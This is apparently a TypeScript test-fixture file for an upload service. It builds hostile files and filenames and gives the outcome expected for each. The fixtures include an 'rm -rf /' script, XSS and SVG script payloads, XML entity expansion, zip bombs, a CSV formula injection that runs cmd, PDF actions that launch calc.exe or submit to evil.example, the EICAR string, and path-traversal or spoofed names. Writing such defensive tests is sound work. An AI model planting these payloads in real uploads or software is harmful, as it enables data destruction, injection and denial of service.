import { deflateRawSync, deflateSync } from 'node:zlib';

/** What is to happen to a file. */
export type Expected =
  /** kept, as this type */
  | { readonly kept: 'application/pdf' | 'image/jpeg' | 'image/png' | 'message/rfc822' }
  | { readonly refused: string };

/** A file that somebody might send who means no good, or whose scanner is broken. */
export interface HostileFile {
  readonly what: string;
  readonly bytes: () => Buffer;
  /** as the sender declares it */
  readonly type: string;
  readonly name?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly expected: Expected;
  /** where the clerk's own door differs: mails are filed there */
  readonly atDesk?: Expected;
}

const text =
  (content: string): (() => Buffer) =>
  () =>
    Buffer.from(content, 'utf8');
const wrongType: Expected = { refused: '415 wrong-file-type' };
const pdf: Expected = { kept: 'application/pdf' };

/** A PDF with one page and whatever its catalog carries. */
const pdfWith = (catalog: string, more = '', trailer = ''): (() => Buffer) =>
  text(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n` +
      `3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n${more}trailer\n<< /Root 1 0 R /Size 9 ${trailer} >>\n%%EOF\n`,
  );

const pngHead = (width: number, height: number): Buffer => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width);
  header.writeUInt32BE(height, 4);
  header.set([8, 6, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
  ]);
};
const pngChunk = (kind: string, content: Buffer): Buffer => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  return Buffer.concat([length, Buffer.from(kind, 'latin1'), content, Buffer.alloc(4)]);
};
const jpegHead = (width: number, height: number): Buffer => {
  const frame = Buffer.from([0xff, 0xc0, 0, 17, 8, 0, 0, 0, 0, 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]);
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), frame, Buffer.from([0xff, 0xd9])]);
};

/** A ZIP with one entry. */
const zip = (name: string, content: Buffer): Buffer => {
  const packed = deflateRawSync(content, { level: 9 });
  const head = Buffer.alloc(30);
  head.write('PK\u0003\u0004', 'latin1');
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(packed.length, 18);
  head.writeUInt32LE(content.length, 22);
  head.writeUInt16LE(Buffer.byteLength(name), 26);
  return Buffer.concat([head, Buffer.from(name), packed]);
};

// in two parts, so that no scanner takes this file for the one it is about
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

export const hostileFiles: readonly HostileFile[] = [
  // nothing, half, and not what it says
  {
    what: 'no bytes at all',
    bytes: () => Buffer.alloc(0),
    type: 'application/pdf',
    expected: { refused: '422 file-empty' },
  },
  { what: 'only zeros', bytes: () => Buffer.alloc(4_096), type: 'application/pdf', expected: wrongType },
  {
    what: 'a PDF that ends after its first bytes',
    bytes: text('%PDF-1.7'),
    type: 'application/pdf',
    expected: pdf,
  },
  {
    what: 'a PDF without its end',
    bytes: () => pdfWith('')().subarray(0, 90),
    type: 'application/pdf',
    expected: pdf,
  },
  {
    what: 'something before the beginning of a PDF',
    bytes: text('\n\n%PDF-1.7\n'),
    type: 'application/pdf',
    expected: wrongType,
  },
  {
    what: 'a PDF said to be a picture',
    bytes: pdfWith(''),
    type: 'image/png',
    name: 'bild.png',
    expected: pdf,
  },
  {
    what: 'a program said to be a PDF',
    bytes: text('MZ\u0090\0\u0003'),
    type: 'application/pdf',
    name: 'antrag.pdf',
    expected: wrongType,
  },
  {
    what: 'a Linux program',
    bytes: () => Buffer.from('7f454c4602010100', 'hex'),
    type: 'application/pdf',
    expected: wrongType,
  },
  { what: 'a script', bytes: text('#!/bin/sh\nrm -rf /\n'), type: 'application/pdf', expected: wrongType },
  {
    what: 'a page with a script',
    bytes: text('<!doctype html><script>alert(1)</script>'),
    type: 'text/html',
    name: 'seite.html',
    expected: wrongType,
  },
  {
    what: 'a page said to be a PDF',
    bytes: text('<!doctype html><script>alert(1)</script>'),
    type: 'application/pdf',
    expected: wrongType,
  },
  {
    what: 'an SVG with a script',
    bytes: text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    type: 'image/svg+xml',
    name: 'bild.svg',
    expected: wrongType,
  },
  {
    what: 'XML with an entity that grows',
    bytes: text(
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "xxxxxxxxxx"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>',
    ),
    type: 'application/xml',
    expected: wrongType,
  },
  // two things at once
  {
    what: 'a PDF that is a page as well',
    bytes: () => Buffer.concat([Buffer.from('%PDF-1.7\n<html><script>alert(1)</script>\n'), pdfWith('')()]),
    type: 'text/html',
    name: 'beides.html',
    expected: pdf,
  },
  {
    what: 'a GIF that is a script as well',
    bytes: text('GIF89a/*......*/=1;alert(1)//'),
    type: 'image/gif',
    expected: wrongType,
  },
  {
    what: 'a picture with a ZIP behind it',
    bytes: () => Buffer.concat([jpegHead(10, 10), zip('x.exe', Buffer.from('MZ'))]),
    type: 'image/jpeg',
    name: 'foto.jpg',
    expected: { kept: 'image/jpeg' },
  },
  {
    what: 'a picture with a page in its comment',
    bytes: () =>
      Buffer.concat([
        Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0, 27]),
        Buffer.from('<script>alert(1)</script>'),
        jpegHead(10, 10).subarray(2),
      ]),
    type: 'text/html',
    name: 'foto.html',
    expected: { kept: 'image/jpeg' },
  },
  // bombs
  {
    what: 'a picture of 50,000 × 50,000 pixels',
    bytes: () =>
      Buffer.concat([pngHead(50_000, 50_000), pngChunk('IDAT', deflateSync(Buffer.alloc(1_000_000)))]),
    type: 'image/png',
    expected: { refused: '413 too-large' },
  },
  {
    what: 'a picture of four billion columns',
    bytes: () => pngHead(4_294_967_295, 1),
    type: 'image/png',
    expected: { refused: '413 too-large' },
  },
  {
    what: 'a photo of 65,000 × 65,000 pixels',
    bytes: () => jpegHead(65_000, 65_000),
    type: 'image/jpeg',
    expected: { refused: '413 too-large' },
  },
  {
    what: 'a ZIP that grows a thousandfold',
    bytes: () => zip('a.txt', Buffer.alloc(10_000_000)),
    type: 'application/pdf',
    expected: wrongType,
  },
  {
    what: 'a ZIP in a ZIP in a ZIP',
    bytes: () => zip('a.zip', zip('b.zip', zip('c.txt', Buffer.alloc(1_000_000)))),
    type: 'application/zip',
    expected: wrongType,
  },
  // PDFs that want to do something: kept, because a viewer that runs nothing shows them and the form of an application is free
  {
    what: 'a PDF with a program that starts by itself',
    bytes: pdfWith('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    type: 'application/pdf',
    expected: pdf,
  },
  {
    what: 'a PDF that starts another program',
    bytes: pdfWith('/OpenAction << /S /Launch /F (calc.exe) >>'),
    type: 'application/pdf',
    expected: pdf,
  },
  {
    what: 'a PDF that sends forms',
    bytes: pdfWith('/OpenAction << /S /SubmitForm /F (http://evil.example/) >>'),
    type: 'application/pdf',
    expected: pdf,
  },
  {
    what: 'a PDF with a file in it',
    bytes: pdfWith(
      '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>',
      '4 0 obj\n<< /Type /Filespec /F (a.exe) >>\nendobj\n',
    ),
    type: 'application/pdf',
    expected: pdf,
  },
  {
    what: 'a PDF that is its own parent',
    bytes: text(
      '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] >>\nendobj\ntrailer\n<< /Root 1 0 R /Prev 0 >>\n%%EOF\n',
    ),
    type: 'application/pdf',
    expected: pdf,
  },
  {
    what: 'a PDF with a password',
    bytes: pdfWith('', '5 0 obj\n<< /Filter /Standard /V 2 /R 3 /P -44 >>\nendobj\n', '/Encrypt 5 0 R'),
    type: 'application/pdf',
    expected: pdf,
  },
  // office
  {
    what: 'a document with macros',
    bytes: () => zip('word/vbaProject.bin', Buffer.from('Attribut')),
    type: 'application/vnd.ms-word.document.macroEnabled.12',
    name: 'brief.docm',
    expected: wrongType,
  },
  {
    what: 'an old document',
    bytes: () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
    type: 'application/msword',
    name: 'brief.doc',
    expected: wrongType,
  },
  {
    what: 'a table with formulas',
    bytes: text("=cmd|' /C calc'!A0;1\n"),
    type: 'text/csv',
    name: 'liste.csv',
    expected: wrongType,
  },
  // the test file of the makers of virus scanners
  { what: 'EICAR', bytes: text(eicar), type: 'application/pdf', name: 'eicar.com', expected: wrongType },
  {
    what: 'EICAR in a ZIP',
    bytes: () => zip('eicar.com', Buffer.from(eicar)),
    type: 'application/zip',
    expected: wrongType,
  },
  // mails
  {
    what: 'a mail with a page and a program',
    bytes: text(
      'From: a@example.org\r\nSubject: =?utf-8?q?x?=\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
    ),
    type: 'message/rfc822',
    name: 'mail.eml',
    expected: wrongType,
    atDesk: { kept: 'message/rfc822' },
  },
  {
    what: 'bytes said to be a mail',
    bytes: () => Buffer.from([0xff, 0xfe, 0x00, 0x01]),
    type: 'message/rfc822',
    expected: wrongType,
  },
  // what the headers say
  {
    what: 'another hash than announced',
    bytes: pdfWith(''),
    type: 'application/pdf',
    headers: { 'content-digest': `sha-256=:${Buffer.alloc(32).toString('base64')}:` },
    expected: { refused: '422 hash-mismatch' },
    atDesk: pdf,
  },
  {
    what: 'a hash that is none',
    bytes: pdfWith(''),
    type: 'application/pdf',
    headers: { digest: 'sha-256=kurz' },
    expected: { refused: '422 invalid' },
    atDesk: pdf,
  },
  {
    what: 'more bytes announced than anybody may send',
    bytes: pdfWith(''),
    type: 'application/pdf',
    headers: { 'content-length': '999999999999' },
    expected: { refused: '413 too-large' },
  },
];

/** Names that files come with, and what is left of them. */
export const hostileNames: readonly (readonly [sent: string, kept: string])[] = [
  ['../../../etc/passwd', 'passwd'],
  ['..\\..\\windows\\system32\\config', 'config'],
  ['/absolut/pfad.pdf', 'pfad.pdf'],
  ['Rechnung\u202Efdp.exe', 'Rechnungfdp.exe'],
  ['\u2066verkehrt\u2069.pdf', 'verkehrt.pdf'],
  ['null\0byte.pdf', 'nullbyte.pdf'],
  ['neue\r\nZeile: x.pdf', 'neueZeile_ x.pdf'],
  [`${'x'.repeat(300)}.pdf`, `${'x'.repeat(120)}`],
  ['Žofie Ĳsselmeer Ǆ Ŧ Ḥ̱amīd Ə.pdf', 'Žofie Ĳsselmeer Ǆ Ŧ Ḥ̱amīd Ə.pdf'],
  ['A\u030Angstro\u0308m.pdf', 'Ångström.pdf'],
  ['👩🏽🚒 Urlaub.pdf', '👩🏽🚒 Urlaub.pdf'],
  ['"; filename="böse.html', '_; filename=_böse.html'],
  ["UTF-8''%41.pdf", "UTF-8''%41.pdf"],
  ['<img src=x onerror=alert(1)>.pdf', '_img src=x onerror=alert(1)_.pdf'],
  ['.htaccess', 'htaccess'],
  ['CON.pdf', 'CON.pdf'],
  ['a:b|c*d?.pdf', 'a_b_c_d_.pdf'],
];
